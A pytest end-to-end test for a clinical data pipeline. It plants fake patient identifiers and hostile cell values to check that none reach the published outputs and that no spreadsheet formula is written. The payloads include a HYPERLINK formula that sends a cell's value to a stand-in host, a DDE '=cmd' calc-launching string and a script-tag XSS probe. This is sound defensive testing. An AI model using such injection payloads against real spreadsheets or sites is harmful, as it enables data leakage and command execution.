"""End to end: identifiers and formulas planted in every kind of field of a submission never
reach anything under results/ (text, Parquet cells and metadata, XLSX XML, PDF and SVG text,
logs, manifest), and no written XLSX holds a formula.

One small run: the infant study alone (9 patients) plus 5 planted patients."""

from __future__ import annotations

import csv
import re
import unicodedata
import zipfile
import zlib
from pathlib import Path

import pyarrow.parquet as pq
import pytest

from .conftest import copy_repo, snakemake

BASE = {
    "sex": "M",
    "birth_date": "2008-01-01",
    "diagnosis_date": "2008-06-01",
    "wbc_per_ul": "12,000",
    "cns": "-",
    "hepatosplenomegaly": "-",
    "myeloid_ag": "-",
    "cd10": "+",
    "mll": "-",
    "protocol": "POG 9407",
    "induction_response": "CR",
    "last_followup": "2011-01-01",
}
FORMULA = '=HYPERLINK("http://x.example/?id="&B2,"click")'
CMD = "=cmd|' /C calc'!A0"
# local ID -> planted cells: free text (protocol, conditioning, mll), coded (sex, cns,
# donor_source, induction_response), numeric (wbc_per_ul, anc_engraft_day), date (birth_date,
# relapse_date, death_date, hsct_date) and the local ID itself
PLANTED = {
    "MRN-55501": {
        "protocol": "POG 9407 call 010-2345-6789 김민준",
        "conditioning": "Bu/Cy DOB 1997-07-23",
        "last_followup": "900101-1234567",
        "wbc_per_ul": "01023456789",
        "birth_date": "9001011234568",
        "cns": "010-8765-4321",  # coded
    },
    "MRN-55502": {
        "protocol": "pt Kim Minjun 이서연님",
        "conditioning": "jane.doe@example.com",
        "hsct_date": "+82 10-3456-7890",
        "anc_engraft_day": "+821034567891",
        "last_followup": "010.4567.8901",
    },
    "MRN-55503": {
        "protocol": "John Smith referral ９００１０１－１２３４５６７",
        "conditioning": "900101/1234567",
        "anc_engraft_day": "02-123-4567",
        "death_date": "031.123.4567",
        "plt_engraft_day": "0212345678",
        "last_followup": "０２－９８７－６５４３",
        "induction_response": "jane.roe@example.net",  # coded
    },
    "MRN-55504": {
        "protocol": "900101–1234567 생년월일: 1997.07.23",
        "conditioning": "010 5678 1234 jsmith@example.org",
        "wbc_per_ul": CMD,  # not a number: its raw value goes to the query listing
        "hsct_date": "900101.1234567",
        "birth_date": "900101 1234567",
    },
    "MRN-55505": {
        "protocol": FORMULA,
        "conditioning": "<script>alert(1)</script>",
        "sex": "F",
    },
    "MRN-55506": {  # free text only: the record is analysed and reaches Table 1
        "protocol": "０１０－６７８９－１２３４",
        "conditioning": "contact kim.mj@example.com 박지훈",
        "last_followup": "2011-01-02",
    },
}
MARKUP = [FORMULA, "<script>"]
#: Planted cells that are not identifiers (they may and do appear in the outputs).
BENIGN = {"F", FORMULA, CMD, "<script>alert(1)</script>", "2011-01-02"}
_DASHES = str.maketrans({"–": "-", "—": "-", "－": "-"})


def _forms(secret: str) -> set[str]:
    """The planted string as it could appear: as typed, NFKC-folded, and for long digit
    runs the digits alone (with and without a leading zero, as a number would print)."""
    norm = unicodedata.normalize("NFKC", secret).translate(_DASHES)
    forms = {secret, norm}
    digits = re.sub(r"\D", "", norm)
    if len(digits) >= 9:
        forms |= {digits, digits.lstrip("0")}
    return forms


def _pdf_literal(raw: bytes) -> bytes:
    """The bytes of a PDF literal string (backslash escapes resolved)."""
    out, i = bytearray(), 0
    while i < len(raw):
        c = raw[i]
        if c == 0x5C and i + 1 < len(raw):
            n = raw[i + 1 : i + 4]
            m = re.match(rb"[0-7]{1,3}", n)
            if m:
                out.append(int(m.group(0), 8) & 0xFF)
                i += 1 + len(m.group(0))
                continue
            out += {b"n": b"\n", b"r": b"\r", b"t": b"\t", b"b": b"\b", b"f": b"\f"}.get(
                raw[i + 1 : i + 2], raw[i + 1 : i + 2]
            )
            i += 2
            continue
        out.append(c)
        i += 1
    return bytes(out)


def _pdf_text(data: bytes) -> str:
    """Text shown in a matplotlib PDF (``pdf.fonttype: 42``: two-byte codes that are the
    characters' Unicode code points), from every inflated content stream."""
    out = []
    for m in re.finditer(rb"stream\r?\n(.*?)\r?\nendstream", data, re.S):
        try:
            s = zlib.decompress(m.group(1))
        except zlib.error:
            s = m.group(1)
        for block in re.findall(rb"\[(.*?)\]\s*TJ|(\((?:\\.|[^\\)])*\))\s*Tj", s, re.S):
            raw = b"".join(
                _pdf_literal(t) for t in re.findall(rb"\(((?:\\.|[^\\)])*)\)", b"".join(block))
            )
            out.append(raw.decode("utf-16-be", "replace") + raw.decode("latin-1"))
    return "\n".join(out)


def _texts(root: Path):
    """(path, searchable text) of every file under ``root``."""
    for p in sorted(root.rglob("*")):
        if not p.is_file():
            continue
        data = p.read_bytes()
        if p.suffix == ".parquet":
            f = pq.ParquetFile(p)
            meta = f.schema_arrow.metadata or {}
            text = f.read().to_pandas().astype(str).to_csv()
            text += "".join(
                k.decode("utf-8", "replace") + v.decode("utf-8", "replace") for k, v in meta.items()
            )
            text += str(f.metadata.metadata or {})
            yield p, text
        elif p.suffix == ".xlsx":
            with zipfile.ZipFile(p) as z:
                yield p, "".join(z.read(n).decode("utf-8", "replace") for n in z.namelist())
        elif p.suffix == ".pdf":
            yield p, _pdf_text(data)
        else:
            yield p, data.decode("utf-8", "replace")


@pytest.fixture(scope="module")
def planted_run(tmp_path_factory: pytest.TempPathFactory) -> Path:
    work = copy_repo(tmp_path_factory.mktemp("planted") / "repo")
    (work / "config/config.yaml").write_text("studies:\n  - infant_all\n", encoding="utf-8")
    sub = work / "data/infant_all/SEV/SEV_2011-03-02.csv"
    with sub.open(encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    header = list(rows[0])
    for local, cells in PLANTED.items():
        rows.append({**dict.fromkeys(header, ""), **BASE, **cells, "patient_no": local})
    with sub.open("w", encoding="utf-8", newline="") as fh:
        w = csv.DictWriter(fh, fieldnames=header, lineterminator="\n")
        w.writeheader()
        w.writerows(rows)
    snakemake(work)
    return work


def test_no_planted_identifier_anywhere_under_results(planted_run):
    secrets = {"MRN-55501", "MRN-55502", "MRN-55503", "MRN-55504", "MRN-55505"}
    for cells in PLANTED.values():
        secrets |= set(cells.values()) - BENIGN
    secrets |= {"김민준", "이서연", "박지훈", "Kim Minjun", "John Smith", "jane.doe", "jsmith@"}
    secrets |= {"kim.mj@", "jane.roe@"}
    secrets |= {"1997-07-23", "1997.07.23"}  # the planted dates of birth
    forms = {f for s in secrets for f in _forms(s)}
    roots = [planted_run / "results", planted_run / ".snakemake" / "log"]
    searched = 0
    for root in roots:
        for path, text in _texts(root):
            searched += 1
            norm = unicodedata.normalize("NFKC", text).translate(_DASHES)
            for f in forms:
                assert f not in text and f not in norm, (
                    f"planted {f[:3]}... found in {path.relative_to(planted_run)}"
                )
    assert searched > 50
    # the identifiers did reach the pipeline: removed with findings naming the cells
    findings = (planted_run / "results/infant_all/validate/SEV.findings.csv").read_text()
    assert findings.count("identifier_removed") == 24  # every planted identifier cell
    for kind in ("resident registration number", "phone number", "e-mail address", "name"):
        assert f"({kind})" in findings
    assert "(date of birth)" in findings
    # and the raw values are kept for the site, under restricted/ only
    listing = (planted_run / "restricted/infant_all/queries/checks/SEV.csv").read_text()
    assert "jane.doe@example.com" in listing and "MRN-55502" in listing


def test_no_formula_or_markup_in_any_output(planted_run):
    xlsx = [*planted_run.joinpath("results").rglob("*.xlsx")]
    xlsx += [*planted_run.joinpath("restricted").rglob("*.xlsx")]
    assert any(p.name == "tables.xlsx" for p in xlsx) and any("queries" in str(p) for p in xlsx)
    for p in xlsx:
        with zipfile.ZipFile(p) as z:
            for n in z.namelist():
                assert "<f>" not in z.read(n).decode("utf-8", "replace"), (p, n)
    table1 = (planted_run / "results/infant_all/tables/table1.md").read_text()
    assert "<script>" not in table1 and "[removed: " in table1
    listing = planted_run / "restricted/infant_all/queries/SEV.xlsx"
    import openpyxl

    values = [c.value for row in openpyxl.load_workbook(listing).active.iter_rows() for c in row]
    assert CMD in values  # kept as exact text for the site, not as a formula
    assert "jane.doe@example.com" in values
    tables = openpyxl.load_workbook(planted_run / "results/infant_all/tables/tables.xlsx")
    cells = [c.value for ws in tables for row in ws.iter_rows() for c in row]
    assert FORMULA in cells  # the protocol level of Table 1, as text
    from cohortflow.core.cellsafe import FORMULA_START, csv_cell

    for path, text in _texts(planted_run / "results"):
        if path.suffix in (".md", ".html", ".json", ".log", ".svg"):
            assert "<script>" not in text, path
        if path.suffix == ".csv":
            rows = list(csv.reader(text.splitlines()))
            bad = [c for r in rows for c in r if c.startswith(FORMULA_START) and csv_cell(c) != c]
            assert bad == [], path
